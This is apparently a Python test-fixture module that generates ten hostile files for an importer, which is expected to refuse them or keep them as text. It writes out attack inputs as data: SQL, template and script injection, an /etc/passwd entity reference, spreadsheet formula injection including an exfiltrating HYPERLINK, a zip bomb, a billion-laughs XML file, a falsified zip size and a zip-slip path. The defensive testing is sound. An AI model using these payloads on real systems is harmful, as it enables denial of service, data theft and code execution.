"""Ten files made to harm: each is refused with a sentence, or kept as plain text.

Whatever the file: memory and time are bounded, no statement of SQL holds its text, no address is fetched.
"""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.donnees.declarations.fichiers import inventes as i
from tests.donnees.declarations.fichiers.attendu import Colonne, Fichier
from tests.donnees.declarations.fichiers.ecriture import JOUR_ZERO, colonnes, en_archive, en_csv, rangees

TEXTE = ("Texte", "Code")
C = Colonne
DEUX_GO = 2_000_000_000

PIEGES = (
    (C("siret", "Siret"), i.siret),
    (C('"; DROP TABLE imports_import; --', "Entier"), i.entier(500)),
    (C("https://exemple.invalid/schema.json#/fields/0", "Jour", "%Y-%m-%d"), i.jour("%Y-%m-%d")),
    (C('{"$ref": "file:///etc/passwd"}', "Texte", "courriel", "contact", True, TEXTE), i.courriel),
    (C("{{ settings.SECRET_KEY }}", "Texte", nature="personne", personnelle=True), i.personne_civile),
    (C("<script>alert(1)</script>", "Texte", "commune", "commune", aussi=TEXTE), i.commune(2)),
    (C("__class__", "Code", "naf", aussi=TEXTE), i.naf),
    (C("n" * 3_000, "Decimal", "virgule"), i.montant("nu")),
    (
        C("=cmd|' /C calc'!A0", "Texte", nature="libre", aussi=TEXTE),
        i.parmi('=HYPERLINK("https://exemple.invalid/?x="&A1;"voir")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"),
    ),
)

MILLIARD = "".join(f'<!ENTITY {b} "{f"&{a};" * 20}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
ENTITES = (
    '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">'
    f'{MILLIARD}<!ENTITY x SYSTEM "https://exemple.invalid/x">]>'
    '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>siret &i; &x;</t></is></c></row></sheetData>'
    "</worksheet>"
)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
NULS = ((b"siret;no\x00m\n", 1), (b"0\x0000\x001234\x00;a\x00\x00b\n", 200))
LIGNE_LONGUE = ((b"siret;texte\n00000000000000;", 1), (b"x" * 1_000_000, 50))
BON = "siret;effectif\n" + "".join(f"{siret};{rang}\n" for rang, (siret,) in enumerate(rangees(PIEGES[:1], 50)))


def octets(*morceaux: tuple[bytes, int]) -> Callable[[Path], None]:
    """Pieces, each repeated: a file of 50 MB is written in one row of bytes at a time."""

    def ecrire(chemin: Path) -> None:
        with chemin.open("wb") as flux:
            for morceau, fois in morceaux:
                for _ in range(fois):
                    flux.write(morceau)

    return ecrire


def bombe(chemin: Path) -> None:
    """100 MB of zeros in less than 1 MB."""
    membre = zipfile.ZipInfo("donnees.csv", JOUR_ZERO)
    membre.compress_type = zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(chemin, "w", compresslevel=1) as archive, archive.open(membre, "w") as flux:
        flux.write(b"siret;effectif\n")
        for _ in range(100):
            flux.write(b"0" * 1_000_000)


def milliard(chemin: Path) -> None:
    """A workbook whose sheet declares a billion laughs and an entity to fetch."""
    lien = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    classeur = f'<workbook xmlns:r="{lien}"><sheets><sheet name="Feuil1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    cible = f'Type="{lien}/worksheet" Target="worksheets/sheet1.xml"'
    membres = {
        "[Content_Types].xml": "<Types/>",
        "xl/workbook.xml": classeur,
        "xl/_rels/workbook.xml.rels": f'<Relationships><Relationship Id="rId1" {cible}/></Relationships>',
        "xl/worksheets/sheet1.xml": ENTITES,
    }
    en_archive(chemin, [(nom, texte.encode()) for nom, texte in membres.items()])


def taille_mentie(chemin: Path) -> None:
    """A small member that both headers of the archive say to be of 2 GB."""
    en_archive(chemin, [("donnees.csv", BON.encode())])
    contenu = bytearray(chemin.read_bytes())
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<L", contenu, contenu.index(signature) + place, DEUX_GO)
    chemin.write_bytes(contenu)


def hors_du_dossier(chemin: Path) -> None:
    en_archive(chemin, [("../../../../tmp/evasion.csv", BON.encode()), ("donnees.csv", BON.encode())])


def _large() -> bytes:
    """5 000 columns; the SIRET is the 2 500th, so that no early column answers for the others."""
    noms = [f"v{rang}" for rang in range(5_000)]
    noms[2_499] = "siret"
    lignes = [";".join(noms)]
    for (siret,) in rangees(PIEGES[:1], 20):
        valeurs = ["1"] * 5_000
        valeurs[2_499] = str(siret)
        lignes.append(";".join(valeurs))
    return "\n".join(lignes).encode() + b"\n"


def _refuse(nom: str, ecrire: Callable[[Path], None], refus: str) -> Fichier:
    return Fichier(nom, "hostile", ecrire, refus=refus)


HOSTILES: tuple[Fichier, ...] = (
    _refuse("bombe.zip", bombe, "dilatation"),
    _refuse("milliard.xlsx", milliard, "entites"),
    _refuse("export_complet.csv", octets((_large(), 1)), "trop-de-colonnes"),
    _refuse("export_sans_fin.csv", octets(*LIGNE_LONGUE), "ligne-longue"),
    Fichier(
        "textes_pieges.csv",
        "hostile",
        en_csv(PIEGES),
        colonnes(PIEGES),
        "siret",
        "siret",
        dits=("des cellules sont écrites comme des formules : elles restent du texte",),
    ),
    _refuse("export_ancien.csv", octets(*NULS), "binaire"),
    _refuse("rapport.csv", octets((PDF, 1)), "pdf"),
    _refuse("export_du_jour.csv", octets(), "vide"),
    _refuse("deux_go_annonces.zip", taille_mentie, "dilatation"),
    _refuse("evasion.zip", hors_du_dossier, "chemin"),
)
